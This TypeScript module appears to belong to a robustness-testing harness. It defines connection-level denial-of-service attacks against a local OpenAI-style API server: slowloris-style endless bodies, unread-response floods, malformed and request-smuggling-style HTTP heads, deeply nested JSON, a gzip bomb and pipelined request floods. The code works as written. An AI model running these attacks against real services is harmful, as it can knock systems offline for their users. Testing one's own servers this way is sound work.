/** Connections that stay open: bodies that never end, answers that are never read, heads that are no HTTP. */
import { connect, type Socket } from 'node:net'
import { gzipSync } from 'node:zlib'
import { setTimeout as sleep } from 'node:timers/promises'
import { sendInTurn, type Attack, type Attacker } from '../attack.js'

const range = (count: number): number[] => Array.from({ length: count }, (_, index) => index)

/** A connection whose errors are forgotten. */
function openConnection ({ victim }: Attacker): Socket {
  const { hostname, port } = new URL(victim.url)
  const socket = connect(Number(port), hostname)
  socket.on('error', () => {})
  return socket
}

const head = ({ victim }: Attacker, path: string, length: number | string): string =>
  `POST ${path} HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer ${victim.keys.attacker}\r\n` +
  `Content-Type: application/json\r\n${typeof length === 'number' ? `Content-Length: ${length}` : length}\r\n\r\n`

/** Waits out the attack's time. */
async function untilOver (over: AbortSignal, ms: number): Promise<void> {
  await sleep(ms, undefined, { signal: over }).catch(() => {})
}

async function endlessBodies (attacker: Attacker): Promise<void> {
  const sockets = range(200).map(() => {
    const socket = openConnection(attacker)
    socket.write(`${head(attacker, '/v1/chat/completions', 2_000_000)}{"model":"`)
    return socket
  })
  for (let round = 0; round < 40 && !attacker.over.aborted; round++) {
    for (const socket of sockets) if (!socket.destroyed) socket.write('a'.repeat(20_000))
    await untilOver(attacker.over, 200)
  }
  for (const socket of sockets) socket.destroy()
}

/** Text whose tokens make an answer many times as long as the request. */
async function unreadAnswers (attacker: Attacker): Promise<void> {
  const body = JSON.stringify({
    model: attacker.victim.model,
    prompt: 'a b c '.repeat(600),
    echo: true,
    logprobs: 5,
    max_tokens: 1
  })
  const sockets = range(40).map(() => {
    const socket = openConnection(attacker)
    socket.pause()
    for (let index = 0; index < 8; index++) {
      socket.write(head(attacker, '/v1/completions', Buffer.byteLength(body)) + body)
    }
    return socket
  })
  await untilOver(attacker.over, 8000)
  for (const socket of sockets) socket.destroy()
}

async function brokenHeads (attacker: Attacker): Promise<void> {
  const { random, over } = attacker
  const heads = [
    'GET / HTTP/9.9\r\n\r\n', 'GET /health HTTP/1.1\r\n\r\n', `GET /${'a'.repeat(100_000)} HTTP/1.1\r\nHost: x\r\n\r\n`,
    `GET /health HTTP/1.1\r\nHost: x\r\n${range(3000).map(index => `h${index}: v\r\n`).join('')}\r\n`,
    'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'GET /v1/models/% HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n',
    head(attacker, '/v1/chat/completions', 'Content-Length: 5\r\nTransfer-Encoding: chunked'),
    `${head(attacker, '/v1/chat/completions', 'Transfer-Encoding: chunked')}FFFFFFFFFFFFFFFF\r\n`,
    head(attacker, '/v1/chat/completions', -1), head(attacker, '/v1/chat/completions', 1e15)
  ]
  for (let round = 0; round < 3; round++) {
    for (const text of heads) {
      if (over.aborted) return
      const socket = openConnection(attacker)
      const cut = Math.floor(random() * text.length)
      socket.write(text.slice(0, cut))
      await sleep(5)
      socket.write(text.slice(cut))
      socket.once('data', data => {
        const status = Number(/^HTTP\/1\.1 (\d+)/.exec(String(data))?.[1] ?? 0)
        if (status >= 500 && status !== 505) attacker.tally.faults.push(`${text.slice(0, 40)}: ${status}`)
      })
      await sleep(20)
      socket.destroy()
    }
  }
}

function oddBodies (attacker: Attacker): Promise<void> {
  const bodies: ReadonlyArray<string | Buffer> = [
    Buffer.alloc(3 << 20, '['),
    '['.repeat(1_000_000) + ']'.repeat(1_000_000),
    `{"a":${'{"a":'.repeat(300_000)}1${'}'.repeat(300_000)}}`,
    `{${range(150_000).map(index => `"k${index}":1`).join()}}`,
    `[${'1,'.repeat(900_000)}1]`,
    Buffer.concat([Buffer.from('{"model":"'), Buffer.alloc(1 << 20, 0xF1), Buffer.from('"}')]),
    `{"n":${'9'.repeat(1_000_000)}}`,
    `"${'\\ud800'.repeat(300_000)}"`
  ]
  const path = '/v1/chat/completions'
  const zeros = gzipSync(Buffer.alloc(1 << 25, ' '))
  return sendInTurn(attacker,
    [[path, zeros, { headers: { 'content-encoding': 'gzip' } }], ...bodies.map(body => [path, body] as const)])
}

/** Packets that hold thousands of requests, or of chunks of a body. */
async function fullPackets (attacker: Attacker): Promise<void> {
  const chunked = head(attacker, '/v1/chat/completions', 'Transfer-Encoding: chunked')
  for (const text of [
    'GET /health HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n'.repeat(5000),
    'GET /x HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n'.repeat(5000),
    chunked + '1\r\na\r\n'.repeat(500_000),
    'GET /health HTTP/1.1\r\nHost: 127.0.0.1\r\nTransfer-Encoding: chunked\r\n\r\n' + '1\r\na\r\n'.repeat(10_000)
  ]) {
    if (attacker.over.aborted) return
    const socket = openConnection(attacker)
    socket.resume().write(text)
    await untilOver(attacker.over, 1000)
    socket.destroy()
  }
}

export const connectionAttacks: readonly Attack[] = [
  { name: 'endless-bodies', what: '200 bodies that never end', isFlood: true, run: endlessBodies },
  {
    name: 'unread-answers',
    what: '320 long answers on 40 connections that nobody reads',
    isFlood: true,
    run: unreadAnswers
  },
  { name: 'broken-heads', what: 'heads that are no HTTP, in pieces', run: brokenHeads },
  { name: 'odd-bodies', what: 'bodies of brackets, digits, keys, no UTF-8, 32 MB compressed', run: oddBodies },
  { name: 'full-packets', what: 'connections that send thousands of requests, or of chunks, at once', run: fullPackets }
]
